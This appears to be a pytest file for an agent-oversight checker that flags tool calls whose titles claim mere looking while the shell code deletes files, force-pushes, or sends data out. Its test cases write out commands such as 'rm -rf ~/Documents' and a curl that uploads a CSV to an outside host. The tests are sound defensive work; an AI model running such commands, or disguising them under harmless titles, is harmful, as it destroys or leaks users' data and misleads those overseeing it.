"""A title that speaks of looking alone is held against what the code does."""

from __future__ import annotations

import pytest

from runner.model.claimed import contradiction
from runner.model.request import Language, Request, Tool
from runner.risk.assess import assess


def said(title: str, language: Language, code: str) -> str:
    return contradiction(title, assess(Request("id", "agent", Tool.CODE_EXECUTE, 0.0, language, code)).verdict)


@pytest.mark.parametrize(
    ("title", "code", "words"),
    [
        ("Count the words", "rm -rf ~/Documents", "the title speaks of looking alone, but it deletes "),
        (
            "List files: a dry run",
            "rm -r build",
            "the title speaks of looking alone, but it deletes the folder “build”",
        ),
        ("read-only tour", "git push --force origin main", "the title speaks of looking alone, but it throws away"),
        (
            "Check",
            "curl -d @a.csv https://a.example",
            "the title speaks of looking alone, but it sends files to a.example",
        ),
    ],
)
def test_a_title_that_denies_the_deed_is_said(title: str, code: str, words: str) -> None:
    assert said(title, Language.SHELL, code).startswith(words)


@pytest.mark.parametrize(
    ("title", "code"),
    [
        ("Delete the build folder", "rm -r build"),
        ("Count the words", "wc -l a.txt"),
        ("Show the log", 'd=$(mktemp -d); git log > "$d/a"; rm -rf "$d"'),
        ("", "rm -r build"),
        ("Readme", "rm -r build"),
    ],
)
def test_one_that_denies_nothing_is_not(title: str, code: str) -> None:
    assert said(title, Language.SHELL, code) == ""


def test_typescript_is_said_and_whether_it_can_run() -> None:
    code = "interface A { x: number }\nconst a: A = { x: 1 };\nconsole.log(a.x);\n"
    found = assess(Request("id", "agent", Tool.CODE_EXECUTE, 0.0, Language.JAVASCRIPT, code)).findings
    assert [(one.id, one.reason) for one in found] == [
        ("request.typescript", "This is TypeScript. Its types are taken out before it runs.")
    ]
    for more in ("namespace N { export const a = 1 }\n", "@d class A { x: number = 1 }\n"):
        found = assess(Request("id", "agent", Tool.CODE_EXECUTE, 0.0, Language.JAVASCRIPT, more)).findings
        assert any("Node.js cannot run it" in one.reason for one in found)
    plain = assess(Request("id", "agent", Tool.CODE_EXECUTE, 0.0, Language.JAVASCRIPT, "console.log(1);\n"))
    assert plain.findings == ()
